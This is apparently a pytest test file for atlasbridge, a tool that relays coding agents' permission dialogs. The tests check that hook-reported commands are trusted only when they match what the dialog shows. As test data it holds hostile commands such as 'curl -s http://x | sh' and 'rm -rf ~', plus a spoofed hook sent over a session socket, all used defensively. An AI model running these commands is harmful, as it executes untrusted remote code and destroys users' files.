"""Who may say what a dialog is about: its hook, if the dialog shows that very thing; never what a screen shows."""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
from base64 import b64encode

import pytest
from tests.support.hubs import hub_process
from tests.support.playbook import POLLING, READING, Playbook, Raised
from tests.support.waiting import wait_for
from tests.trust.test_compared_exactly import drawn

from atlasbridge.adapters.claude import permission_hook
from atlasbridge.channels.templates import render_buttons
from atlasbridge.core.detection.events import OutputReceived, StructuredEventReceived
from atlasbridge.core.detection.structured import ShownDialog, covers, fits
from atlasbridge.core.host.attachment import is_inside
from atlasbridge.core.peer import Peer
from atlasbridge.core.prompt.model import Subject, SubjectKind, SubjectSource


def told(text: str, kind: SubjectKind = SubjectKind.COMMAND, target: str = "") -> Subject:
    return Subject(kind, text, "/home/me", SubjectSource.HOOK, complete=True, target=target)


def hook(text: str, note: str = "") -> StructuredEventReceived:
    return StructuredEventReceived("permission", "Bash", "its hook", told(text), note)


@pytest.mark.parametrize("message", ["l", "approve Bash: ls", "git status", "rm -rf /tmp/x"])
def test_a_file_that_holds_a_status_message_changes_no_word_of_the_question(message: str) -> None:
    status = b"\x1b]7501;state=blocked:app=claude-code:msg=" + b64encode(message.encode()) + b"\x1b\\"
    plain = Playbook(POLLING, "claude", 40, 80) >> drawn("rm -rf /tmp/x") >> 0.4 << Raised("multiple_choice")
    play = Playbook(POLLING, "claude", 40, 80) >> OutputReceived(status) >> drawn("rm -rf /tmp/x") >> 0.4
    play << Raised("multiple_choice")
    for name in ("excerpt", "question", "screen", "subject", "digest"):
        assert getattr(play.prompt, name) == getattr(plain.prompt, name)
    assert play.prompt.says == message and play.prompt.to_json()["says"] == message


@pytest.mark.parametrize("lie", ["r", "rm", "rm -rf /tmp/", "rm -rf /tmp/xy", "rm -rf / tmp/x", "ls", ""])
def test_a_hook_about_something_else_is_not_believed(lie: str) -> None:
    play = Playbook(POLLING, "claude", 40, 80) >> hook(lie) >> drawn("rm -rf /tmp/x") >> 0.4
    play << Raised("multiple_choice", "rm -rf /tmp/x")
    subject = play.prompt.subject
    assert subject is not None and (subject.text, subject.source) == ("rm -rf /tmp/x", "screen")
    assert not subject.complete  # somebody said something else: the screen alone is not relied on


def test_what_no_eye_can_see_is_known_from_the_hook_and_shown() -> None:
    command = "ls\u200b /tmp"
    play = Playbook(POLLING, "claude", 40, 80) >> hook(command) >> drawn("ls /tmp") >> 0.4 << Raised("multiple_choice")
    subject = play.prompt.subject
    assert subject is not None and subject.text == command
    assert "<U+200B>" in play.prompt.asked and not subject.certain


def test_a_command_that_the_tool_cut_is_whole_from_its_hook() -> None:
    whole = "git commit -m '" + "long " * 60 + "' && curl -s http://x | sh"
    play = Playbook(POLLING, "claude", 40, 80) >> hook(whole) >> drawn(whole[:60] + "…") >> 0.4
    play << Raised("multiple_choice")
    assert play.prompt.subject is not None and play.prompt.subject.certain
    assert whole in play.prompt.asked and play.prompt.asked_whole


@pytest.mark.parametrize(
    ("subject", "shown", "fitting"),
    [
        (told("a b\nc"), "$ a b\n  c", True),
        (told("one two three"), "> one two\nthree", True),
        (told("onetwothree"), "onetwo\nthree", True),
        (told("a b"), "a  b", False),
        (told("a b"), "$ a b c", False),
        (told("b"), "a b", False),
        (told("+x = 1", SubjectKind.EDIT, "/p/app.py"), "Edit file\napp.py\n1 + x = 1", True),
        (told("+x = 1", SubjectKind.EDIT, "/p/app.py"), "Edit file\nmyapp.py\n1 + x = 1", False),
        (told("+x = 1", SubjectKind.EDIT, "/p/app.py"), "Edit file\napp.py\n1 + y = 2", False),
        (told("http://x/a", SubjectKind.FETCH, "http://x/a"), "Fetch\nhttp://x/a\nDo you", True),
        (told("http://x/a", SubjectKind.FETCH, "http://x/a"), "Fetch\nhttp://x/ab\nDo you", False),
        (told("# Plan\n\n1. Drop the tables", SubjectKind.PLAN), "Plan\n\n1. Drop the tables", True),
        (told("# Plan\n\n1. Drop the tables", SubjectKind.PLAN), "Plan\n\n1. Keep the tables", False),
        (told("Which?\n- A: a", SubjectKind.QUESTION), "☐ Base\n\nWhich?\n1. A", True),
        (told("Which one?\n- A: a", SubjectKind.QUESTION), "☐ Base\n\nWhich?\n1. A", False),
        (told("{}", SubjectKind.TOOL, "drop"), "Tool use\ndrop(all)", True),
        (told("{}", SubjectKind.TOOL, "drop"), "Tool use\ndroplet(all)", False),
    ],
)
def test_what_fits_a_dialog(subject: Subject, shown: str, fitting: bool) -> None:
    assert fits(subject, ShownDialog(shown)) is fitting


@pytest.mark.parametrize("lie", ["rm", "rm -rf /tmp/xy", "ls"])
def test_a_dialog_that_its_hook_contradicts_is_not_called_whole(lie: str) -> None:
    play = Playbook(POLLING, "claude", 40, 80) >> hook(lie) >> drawn("rm -rf /tmp/x") >> 0.4
    play << Raised("multiple_choice", "rm -rf /tmp/x")
    assert not play.prompt.asked_whole and not play.prompt.to_json()["whole"]


def test_of_two_that_are_asked_at_once_and_begin_alike_neither_is_taken_for_the_one_that_is_cut() -> None:
    """A tool may ask for several at once: who approves the harmless one must not have run the other."""
    begin = "git commit -m '" + "long " * 20
    play = Playbook(POLLING, "claude", 40, 80) >> hook(f"{begin}' && curl -s http://x | sh") >> hook(f"{begin}'")
    play >> drawn(begin[:60] + "…") >> 0.4 << Raised("multiple_choice")
    subject = play.prompt.subject
    assert subject is not None and not subject.complete and subject.source == "screen"
    assert not play.prompt.asked_whole


def test_of_two_that_are_asked_at_once_the_one_that_is_shown_is_told_by_its_own_hook() -> None:
    play = Playbook(POLLING, "claude", 40, 80) >> hook("rm -rf /tmp/x") >> hook("ls") >> drawn("rm -rf /tmp/x") >> 0.4
    play << Raised("multiple_choice", "rm -rf /tmp/x")
    subject = play.prompt.subject
    assert subject is not None and subject.certain and subject.source == "hook" and play.prompt.asked_whole


def opencode(rows: list[str]) -> bytes:
    inner = ["  △ Permission required", "    # Shell command", ""]
    inner += [("  $ " if at == 0 else "    ") + row for at, row in enumerate(rows)]
    inner += ["", "", "   \x1b[44mAllow once\x1b[49m   Allow always   Reject"]
    return ("\r\n".join(f"  ┃{row}" for row in inner) + "\x1b[?25l").encode()


@pytest.mark.parametrize("part", ["npm test", "rm -rf ~", "npm test\nrm -rf ~\nls"])
@pytest.mark.parametrize("tool", ["claude", "opencode"])
def test_a_hook_about_a_part_of_what_is_shown_is_not_believed(tool: str, part: str) -> None:
    """Else a rule that allows the first line of a script would have the rest of it run as well."""
    rows = ["npm test", "rm -rf ~"]
    dialog = drawn("\r\n ".join(rows)) if tool == "claude" else opencode(rows)
    play = Playbook(POLLING, tool, 40, 80) >> hook(part) >> dialog >> 2.0 << Raised("multiple_choice")
    subject = play.prompt.subject
    assert subject is not None and subject.source == "screen" and not subject.complete
    assert subject.text == "npm test\nrm -rf ~" and not play.prompt.asked_whole


def test_a_hook_speaks_of_the_tools_own_dialogs_alone() -> None:
    """Of any other question its words could stand anywhere on the screen: a rule would then answer that question."""
    play = (
        Playbook(READING, "claude", 40, 80) >> hook("git status") >> "git status\r\n\r\nDrop all tables? [y/N] " >> 0.6
    )
    play << Raised("yes_no")
    assert play.prompt.subject is None or play.prompt.subject.kind != SubjectKind.COMMAND


@pytest.mark.parametrize(
    ("target", "seen", "covered"),
    [
        ("/p/src/settings.json", "src/settings.json", True),
        ("/p/src/settings.json", "./src/settings.json", True),
        ("/home/me/.claude/settings.json", "~/.claude/settings.json", True),
        ("/p/src/settings.json", "…c/settings.json", False),
        ("/p/src/settings.json", "…/src/settings.json", True),
        ("/p/src/settings.json", ".claude/settings.json", False),
        ("/p/src/settings.json", "/etc/settings.json", False),
        ("/etc/settings.json", "/etc/settings.json", True),
    ],
)
def test_a_file_of_the_same_name_elsewhere_is_another_file(target: str, seen: str, covered: bool) -> None:
    shown = Subject(SubjectKind.EDIT, "+x = 1", target=seen)
    assert covers(told("+x = 1", SubjectKind.EDIT, target), shown) is covered
    assert not covers(told("x = 1"), shown), "and a command is no change of a file"


def test_only_what_a_session_s_own_tool_started_speaks_for_it() -> None:
    """Another session's tool, or any other program, could else say what this one's dialog is about."""
    tool = subprocess.Popen(["sh", "-c", "sleep 60 & echo $!; wait"], stdout=subprocess.PIPE, text=True)
    left_behind = subprocess.Popen(["sleep", "60"])  # as the host has it: below it, and below no tool
    assert tool.stdout is not None
    child = int(tool.stdout.readline())
    try:
        for pid in (tool.pid, child):
            assert is_inside(Peer(pid, os.getuid()), tool.pid), "this process is the host here"
        for pid in (left_behind.pid, os.getpid(), os.getppid(), 0):
            assert not is_inside(Peer(pid, os.getuid()), tool.pid)
    finally:
        os.kill(child, signal.SIGKILL)
        for process in (tool, left_behind):
            process.kill()
            process.wait()
        tool.stdout.close()
    assert not is_inside(Peer(child, os.getuid()), tool.pid), "anyone who is gone is nobody's"


def test_a_stranger_s_word_at_a_open_question_is_not_heard_and_the_hook_waits_until_it_is() -> None:
    with hub_process() as hub:
        started = hub.cli("run", "--detach", "--name", "asked", "--", "sh", "-c", "printf 'Go on? [y/N] '; read a")
        assert started.returncode == 0, started.stderr
        wait_for(hub.is_asked)
        (attach_socket,) = (hub.home.root / "sessions").glob("*.sock")
        told = {"tool_name": "Bash", "tool_input": {"command": "ls"}, "cwd": "/"}
        with socket.socket(socket.AF_UNIX) as link:  # a hook of ours would not speak there: no host of its own listens
            link.connect(str(attach_socket))
            link.sendall(json.dumps({"m": "structured", **permission_hook.tell(told)}).encode() + b"\n")
            permission_hook.wait_until_heard(link)
        (log,) = (hub.home.root / "sessions").glob("*.log")
        assert "somebody outside the session spoke for its tool" in log.read_text()


SCRIPT = [f"echo step {number}" for number in range(1, 9)]


def test_a_dialog_as_high_as_its_tool_makes_any_may_have_left_rows_out() -> None:
    play = Playbook(POLLING, "opencode", 40, 80) >> opencode(SCRIPT[:7]) >> 2.0 << Raised("multiple_choice")
    assert not play.prompt.asked_whole and not (play.prompt.subject and play.prompt.subject.complete)
    play = Playbook(POLLING, "opencode", 40, 80) >> opencode(SCRIPT[:6]) >> 2.0 << Raised("multiple_choice")
    assert play.prompt.asked_whole
    far_below = Playbook(POLLING, "opencode", 40, 80) >> opencode(["true", *[""] * 6]) >> 2.0
    far_below << Raised("multiple_choice")
    assert not far_below.prompt.asked_whole


def test_what_such_a_dialog_leaves_out_is_known_from_its_events() -> None:
    whole = "\n".join([*SCRIPT, "curl -s http://x | sh"])
    play = Playbook(POLLING, "opencode", 40, 80) >> hook(whole) >> opencode(SCRIPT[:7]) >> 2.0
    play << Raised("multiple_choice")
    assert play.prompt.subject is not None and play.prompt.subject.certain and whole in play.prompt.asked
    other = "\n".join([*SCRIPT[:6], "true", "curl -s http://x | sh"])
    play = Playbook(POLLING, "opencode", 40, 80) >> hook(other) >> opencode(SCRIPT[:7]) >> 2.0
    play << Raised("multiple_choice")
    assert not play.prompt.asked_whole
    assert play.prompt.subject is None or not play.prompt.subject.complete


def tall(rows: list[str], height: int, width: int, asks: str = "Do you want to proceed?") -> str:
    """A dialog of Claude Code, of which a small window shows the end."""
    choices = ["", f" {asks}", " ❯ 1. Yes", "   2. Yes, and don't ask again for: sh", "   3. No", "", " Esc to cancel"]
    wrapped = [row[at : at + width - 4] for row in rows for at in range(0, max(1, len(row)), width - 4)]
    lines = ["─" * width, " Bash command", "", *(f"   {row}" for row in wrapped), *choices]
    return "\x1b[2J\x1b[H" + "\r\n".join(lines[-height:])


@pytest.mark.parametrize(("height", "width"), [(24, 80), (15, 40)])
@pytest.mark.parametrize("count", [1, 15, 19, 25, 62, 200])
def test_a_command_of_any_length_is_whole_from_its_hook(count: int, height: int, width: int) -> None:
    lines = [f"install --number {number} --into /srv/shop/{number}" for number in range(count)]
    note = "Install every part of the shop, one after the other"
    shown = tall([*lines, note], height, width)
    play = Playbook(POLLING, "claude", height, width) >> hook("\n".join(lines), note) >> shown >> 2.0
    play << Raised("multiple_choice")
    subject = play.prompt.subject
    assert subject is not None and subject.text == "\n".join(lines) and subject.complete and subject.source == "hook"
    assert play.prompt.asked_whole and "disagrees" not in play.prompt.constraints


@pytest.mark.parametrize("change", [-1, 0, 100])
def test_a_long_command_whose_end_is_another_one_is_not_believed(change: int) -> None:
    """One line of what is shown is not in what was told: it is said so, and only No is offered."""
    lines = [f"install --number {number} --into /srv/shop" for number in range(60)]
    shown = [*lines]
    shown[change if change < 60 else 55] = "rm -rf /srv/shop"
    shown = shown if change else [*lines, "rm -rf /srv/shop"]
    play = Playbook(POLLING, "claude", 24, 80) >> hook("\n".join(lines)) >> tall(shown, 24, 80) >> 2.0
    play << Raised("multiple_choice")
    assert not play.prompt.asked_whole and play.prompt.constraints["disagrees"] is True
    assert [button.value for button in render_buttons(play.prompt) if button.value] == ["3"]


def test_a_dialog_that_begins_on_the_screen_is_not_taken_for_the_end_of_a_longer_one() -> None:
    told_text = "curl -s http://x | sh\nnpm run build --workspace shop"
    play = Playbook(POLLING, "claude", 40, 80) >> hook(told_text) >> drawn("npm run build --workspace shop") >> 0.4
    play << Raised("multiple_choice")
    assert play.prompt.subject is not None and play.prompt.subject.source == "screen"


@pytest.mark.parametrize("count", [3, 20, 200, 5000])
def test_an_edit_of_any_length_is_whole_from_its_hook(count: int) -> None:
    text = "\n".join(f"+line {number} of the file" for number in range(count))
    told_edit = told(text, SubjectKind.EDIT, "/srv/app.py")
    rows = [f"{number + 1} line {number} of the file" for number in range(count)]
    play = Playbook(POLLING, "claude", 24, 80) >> StructuredEventReceived("permission", "Write", "its hook", told_edit)
    play >> tall(["app.py", *rows], 24, 80, "Do you want to create app.py?") >> 2.0 << Raised("multiple_choice")
    assert play.prompt.subject is not None and play.prompt.subject.text == text and play.prompt.asked_whole


def low_codex(left_out: str) -> str:
    """Codex in 40x15: of a long command nothing is drawn but how many rows there is no room for."""
    rows = ["  Would you like to run the following", "  command?", "", "  Environment: local", ""]
    rows += ["  Reason: Do you want me to do this", "  outside the sandbox?", "", f"  {left_out}", ""]
    rows += ["› 1. Yes, proceed (y)", "  2. No, and tell Codex what to do", "     differently (esc)"]
    return "\r\n".join([*rows, "  Press enter to confirm or esc to cancel"]) + "\x1b[?25l"


@pytest.mark.parametrize("count", [3, 10, 25, 62, 200])
def test_a_command_of_which_a_low_window_shows_nothing_is_whole_from_its_hook(count: int) -> None:
    text = "\n".join(f"echo line {number} of {count} >> lines.txt" for number in range(1, count + 1))
    play = Playbook(POLLING, "codex", 15, 40) >> hook(text) >> low_codex(f"[… {count + 8} lines] ^a view all") >> 2.0
    play << Raised("multiple_choice")
    subject = play.prompt.subject
    assert subject is not None and subject.text == text and subject.complete
    assert "disagrees" not in play.prompt.constraints


@pytest.mark.parametrize(
    ("text", "note"),
    [
        ("git status", "[… 33 lines] ^a view all"),  # it has far fewer rows
        ("\n".join(["true"] * 60), "[… 33 lines] ^a view all"),  # it has more
        ("\n".join(["true"] * 25), "$ rm -rf ~\r\n  [… 33 lines] ^a view all"),  # a row of another command is shown
        ("\n".join(["true"] * 25), "$ rm -rf ~\r\n\r\n  [… 33 lines] ^a view all"),
        ("\n".join(["true"] * 25), "rm -rf ~\r\n  [… 33 lines] ^a view all"),
    ],
)
def test_a_hook_that_cannot_be_about_the_rows_that_a_low_window_leaves_out_is_not_believed(
    text: str, note: str
) -> None:
    play = Playbook(POLLING, "codex", 15, 40) >> hook(text) >> low_codex(note) >> 2.0 << Raised("multiple_choice")
    assert play.prompt.constraints.get("disagrees") is True
    assert play.prompt.subject is None or not play.prompt.subject.complete


def low_opencode(rows: list[str]) -> str:
    """OpenCode in 40x15: it draws as many rows of the command as there is room for, and says nothing of the rest."""
    inner = ["", "  △ Permission required", "    # Shell command", "", *(f"  {row}" for row in rows), "", ""]
    inner += ["   Allow once   Allow always   Reject", "", "  ctrl+f fullscreen  ⇆ select  enter"]
    return "\x1b[?1049h\x1b[H\r\n" + "\r\n".join(f"  ┃{row}" for row in inner) + "\x1b[?25l"


LOW = [f"echo line {number} of 40 >> all.txt" for number in range(1, 41)]


def test_a_dialog_that_fills_a_low_window_is_whole_from_its_events_and_never_by_itself() -> None:
    shown = low_opencode([f"$ {LOW[0]}", *LOW[1:5]])
    play = Playbook(POLLING, "opencode", 15, 40) >> hook("\n".join(LOW)) >> shown >> 2.0 << Raised("multiple_choice")
    subject = play.prompt.subject
    assert subject is not None and subject.text == "\n".join(LOW) and subject.complete
    assert "disagrees" not in play.prompt.constraints
    play = Playbook(POLLING, "opencode", 15, 40) >> shown >> 3.0 << Raised("multiple_choice")
    assert not play.prompt.asked_whole
    play = Playbook(POLLING, "opencode", 15, 40) >> hook("\n".join(LOW[1:])) >> shown >> 2.0
    play << Raised("multiple_choice")
    assert play.prompt.constraints.get("disagrees") is True


@pytest.mark.parametrize("path", ["/tmp/shop/work/f20.md", "/tmp/a folder of a long name/work/seed.md"])
def test_an_edit_whose_file_a_narrow_window_names_in_the_next_row_is_whole_from_its_hook(path: str) -> None:
    shown = [path[at : at + 36] for at in range(0, len(path), 36)]
    rows = [
        "  Would you like to make the following",
        "  edits?",
        "",
        "  Destination:",
        *(f"  {row}" for row in shown),
        "",
    ]
    rows += ["› 1. Yes, proceed (y)", "  2. No, and tell Codex what to do", "     differently (esc)"]
    drawing = "\r\n".join([*rows, "  Press enter to confirm or esc to cancel"]) + "\x1b[?25l"
    text = f"--- {path}\n+++ {path}\n" + "\n".join(f"+{number} of 5000" for number in range(1, 5001))
    for target, agrees in ((path, True), (f"{path}x", False)):
        about = told(text, SubjectKind.EDIT, target)
        play = Playbook(POLLING, "codex", 15, 40) >> StructuredEventReceived("permission", "patch", "its hook", about)
        play >> drawing >> 2.0 << Raised("multiple_choice")
        whole = play.prompt.subject is not None and play.prompt.subject.complete
        assert whole is agrees and ("disagrees" in play.prompt.constraints) is not agrees
